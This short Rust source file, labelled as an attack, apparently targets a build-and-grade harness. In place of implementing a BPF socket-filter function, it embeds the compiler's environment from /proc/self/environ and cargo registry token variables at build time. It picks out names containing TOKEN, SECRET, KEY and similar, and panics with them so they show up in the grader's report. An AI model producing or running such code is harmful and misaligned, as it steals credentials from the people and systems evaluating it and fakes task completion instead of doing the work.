//! Attack: read rustc's own environment at build time (the grader's CARGO_* variables) and print its secrets.
#![allow(unused_imports, unused_variables)]

use workbook::bpf::sock_filter;

/// rustc's environment, as the build sandbox gave it: NUL-separated NAME=VALUE.
const ENVIRON: &str = include_str!("/proc/self/environ");
/// The usual names of cargo's credentials, if the grader's shell had them.
const TOKENS: [Option<&str>; 3] = [
    option_env!("CARGO_REGISTRY_TOKEN"),
    option_env!("CARGO_REGISTRIES_CRATES_IO_TOKEN"),
    option_env!("CARGO_HTTP_PROXY"),
];

/// Secrets first, then every name, within the report's 300 characters.
fn leak() -> String {
    let pairs: Vec<&str> = ENVIRON.split('\0').filter(|pair| !pair.is_empty()).collect();
    let secret = |pair: &&str| ["TOKEN", "SECRET", "PASS", "KEY", "AUTH", "PROXY"]
        .iter()
        .any(|word| pair.split('=').next().unwrap_or("").contains(word));
    let secrets: Vec<&str> = pairs.iter().copied().filter(secret).collect();
    let names: Vec<&str> = pairs.iter().map(|pair| pair.split('=').next().unwrap_or("")).collect();
    format!("secrets {secrets:?} {TOKENS:?}; build env: {}", names.join(" "))
}

/// Panics with the leak.
pub fn ip6_udp_dst_port(port: u16) -> Vec<sock_filter> {
    panic!("{}", leak())
}

